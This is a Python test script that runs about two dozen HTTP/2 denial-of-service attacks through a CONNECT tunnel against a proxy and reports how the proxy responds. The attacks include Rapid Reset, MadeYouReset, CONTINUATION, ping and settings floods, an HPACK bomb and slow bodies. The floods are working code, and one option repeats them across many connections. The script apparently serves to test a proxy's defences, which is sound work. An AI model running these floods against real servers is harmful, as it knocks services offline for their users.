"""Attacks on an HTTP/2 server (RFC 9113 section 10.5), inside a CONNECT: http2_attack.py --proxy PORT --ca FILE
--authority A ATTACK

An attack continues until the proxy closes the connection, or for a fixed number of times. Prints

    {"event": "attack"}   when it starts
    {"event": "over", "ended": whether the proxy has ended the connection, "code", "text" of its GOAWAY, "resets",
    "statuses"}

With --connections N, that many attack at a time, and each starts again at its end, until the program is stopped.
--large PATH is a response of many megabytes.
"""

import argparse
import asyncio
import collections

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

import http2_wire
from events import say
from http2_wire import CODES

parser = argparse.ArgumentParser()
parser.add_argument("--proxy", type=int, required=True)
parser.add_argument("--ca", required=True)
parser.add_argument("--authority", required=True)
parser.add_argument("--connections", type=int)
parser.add_argument("--large", default="/large/10000000")
parser.add_argument("attack")
options = parser.parse_args()
AUTHORITY = options.authority
# More often than any limit allows.
MANY = 100_000


def fields(path="/echo", method="GET", *more):
    return [(":method", method), (":scheme", "https"), (":authority", AUTHORITY), (":path", path), *more]


def frame(kind, stream, payload=b"", flags=0):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


async def flood(wire, make, times=MANY):
    """Sends the frames that `make(n)` returns, until the connection ends."""
    for number in range(times):
        if wire.is_over or wire.transport.is_closing():
            return
        wire.write(*make(number))
        if number % 50 == 0:
            await asyncio.sleep(0)


async def rapid_reset(wire):
    """CVE-2023-44487."""

    def make(_):
        number = wire.request(fields())
        return [RstStreamFrame(number, error_code=8)]

    await flood(wire, make)


async def made_you_reset(wire, make):
    """CVE-2025-8671: the server has to send the RST_STREAMs, at no cost to the client."""

    def request(_):
        number = wire.request(fields(method="POST"), end=False)
        return make(number)

    await flood(wire, request)


async def window_of_zero(wire):
    await made_you_reset(wire, lambda number: [frame(8, number, bytes(4))])


async def window_overflow(wire):
    await made_you_reset(wire, lambda number: [WindowUpdateFrame(number, window_increment=0x7FFF_FFFF)])


async def data_after_the_end(wire):
    await made_you_reset(wire, lambda number: [DataFrame(number, b"", flags=["END_STREAM"]), DataFrame(number, b"x")])


async def bodies_that_are_too_long(wire):
    def make(_):
        number = wire.request(fields("/echo", "POST", ("content-length", "1")), end=False)
        return [DataFrame(number, b"xx")]

    await flood(wire, make)


async def bad_fields(wire):
    await flood(wire, lambda _: [wire.request(fields("/echo", "GET", ("connection", "close")))] and [])


async def continuations(wire):
    """CVE-2024-27316 and others."""
    block = wire.encoder.encode(fields())
    wire.write(HeadersFrame(1, block, flags=["END_STREAM"]))
    await flood(wire, lambda number: [ContinuationFrame(1, b"\x00\x01a\x01b" * 100)])


async def empty_continuations(wire):
    wire.write(HeadersFrame(1, wire.encoder.encode(fields()), flags=["END_STREAM"]))
    await flood(wire, lambda number: [ContinuationFrame(1, b"")])


async def settings(wire):
    """CVE-2019-9515."""
    await flood(wire, lambda number: [SettingsFrame(0, settings={4: 65_535 + number % 2})])


async def empty_settings(wire):
    await flood(wire, lambda number: [SettingsFrame(0)])


async def pings(wire):
    """CVE-2019-9512."""
    await flood(wire, lambda number: [PingFrame(0, b"whatever")])


async def unread_pings(wire):
    wire.transport.pause_reading()
    await flood(wire, lambda number: [PingFrame(0, b"whatever")])
    wire.transport.resume_reading()


async def empty_data(wire):
    """CVE-2019-9518."""
    number = wire.request(fields(method="POST"), end=False)
    await flood(wire, lambda _: [DataFrame(number, b"")])


async def padded_data(wire):
    number = wire.request(fields(method="POST"), end=False)
    await flood(wire, lambda _: [frame(0, number, b"\x00", 8)])


async def priorities(wire):
    """CVE-2019-9513."""
    await flood(wire, lambda number: [PriorityFrame(2 * (number % 1000) + 1, depends_on=0, stream_weight=number % 256)])


async def priority_updates(wire):
    await flood(
        wire, lambda number: [frame(16, 0, (2 * (number % 1000) + 1).to_bytes(4, "big") + b"u=%d" % (number % 8))]
    )


async def window_updates(wire):
    await flood(wire, lambda number: [WindowUpdateFrame(0, window_increment=1)])


async def unknown_frames(wire):
    await flood(wire, lambda number: [frame(0x42, 0, b"what")])


async def goaways(wire):
    await flood(wire, lambda number: [GoAwayFrame(0, last_stream_id=0)])


async def table_sizes(wire):
    """Sends blocks that only change the table's size."""
    await flood(
        wire,
        lambda number: [HeadersFrame(2 * number + 1, b"\x20\x3f\xe1\x1f" * 100, flags=["END_HEADERS", "END_STREAM"])],
    )


async def hpack_bomb(wire):
    """Puts a field of 4000 bytes into the table. Thousands of bytes then refer to it, one each."""
    first = wire.request(fields("/echo", "GET", ("x-bomb", "b" * 3900)))
    await answer(wire, first)
    # 0x01: a literal without indexing (RFC 7541 section 6.2.2); 0xBE: the table's newest entry (section 2.3.3).
    for _ in range(20):
        number, wire.next = wire.next, wire.next + 2
        wire.streams[number] = http2_wire.Stream()
        block = b"\x82\x87\x84\x01" + bytes([len(AUTHORITY)]) + AUTHORITY.encode() + b"\xbe" * 16_000
        wire.write(HeadersFrame(number, block, flags=["END_HEADERS", "END_STREAM"]))
        await answer(wire, number)


async def long_heads(wire):
    """Each exceeds the limit, and gets a response that says so."""
    for _ in range(20):
        await answer(wire, wire.request(fields("/echo", "GET", *((f"x-{number}", "v" * 1000) for number in range(80)))))


async def too_many_fields(wire):
    for _ in range(20):
        await answer(wire, wire.request(fields("/echo", "GET", *((f"x-{number}", "v") for number in range(1100)))))


async def too_many_streams(wire):
    """Opens a thousand streams at once; a hundred are allowed."""
    for _ in range(1000):
        wire.request(fields("/hold/many"))
    await wire.until(lambda: wire.goaways)


async def closed_windows(wire):
    """Requests large responses, and opens no window for them."""
    wire.write(SettingsFrame(0, settings={4: 0}))
    for _ in range(100):
        wire.request(fields(options.large), held=True)
    await wire.until(lambda: all(stream.code is not None for stream in wire.streams.values()))


async def unread_responses(wire):
    """Reads nothing from the socket."""
    for _ in range(100):
        wire.request(fields(options.large))
    wire.transport.pause_reading()
    await asyncio.sleep(3)
    while True:
        # The proxy's reaction shows in failing writes.
        wire.write(PingFrame(0, b"whatever"))
        if wire.transport.is_closing():
            break
        await asyncio.sleep(0.1)
    wire.transport.resume_reading()


async def slow_bodies(wire):
    """Sends a byte now and then, in a hundred streams."""
    numbers = [wire.request(fields("/echo", "POST", ("content-length", "100000")), end=False) for _ in range(100)]
    while not wire.is_over and not all(
        wire.streams[number].code is not None or wire.streams[number].heads for number in numbers
    ):
        for number in numbers:
            if wire.streams[number].code is None and not wire.streams[number].has_ended:
                wire.write(DataFrame(number, b"x"))
        await asyncio.sleep(0.1)


async def answer(wire, number):
    stream = wire.streams[number]
    await wire.until(lambda: stream.has_ended or stream.code is not None)


async def attack():
    wire = await http2_wire.connect(options.proxy, AUTHORITY, options.ca)
    wire.begin()
    await wire.until(lambda: wire.has_settings)
    say("attack")
    await globals()[options.attack.replace("-", "_")](wire)
    # Frames in flight still count; afterwards the connection serves, or has ended.
    wanted = wire.pongs + 1
    if not wire.is_over and not wire.transport.is_closing():
        wire.write(PingFrame(0, b"the last"))
    await wire.until(lambda: wire.pongs >= wanted)
    if wire.goaways:
        await wire.until(lambda: False)
    last = wire.goaways[-1] if wire.goaways else [0, None, ""]
    codes = collections.Counter(CODES[stream.code] for stream in wire.streams.values() if stream.code is not None)
    statuses = collections.Counter(dict(stream.heads[0])[":status"] for stream in wire.streams.values() if stream.heads)
    say(
        "over",
        ended=wire.is_over or wire.transport.is_closing(),
        code=last[1],
        text=last[2],
        resets=dict(codes),
        statuses=dict(statuses),
    )
    wire.transport.abort()


async def again():
    while True:
        try:
            await attack()
        except BrokenPipeError:
            # The reader of the output has gone.
            return
        except OSError:
            await asyncio.sleep(0.1)


async def main():
    await asyncio.gather(*(again() for _ in range(options.connections))) if options.connections else await attack()


asyncio.run(main())
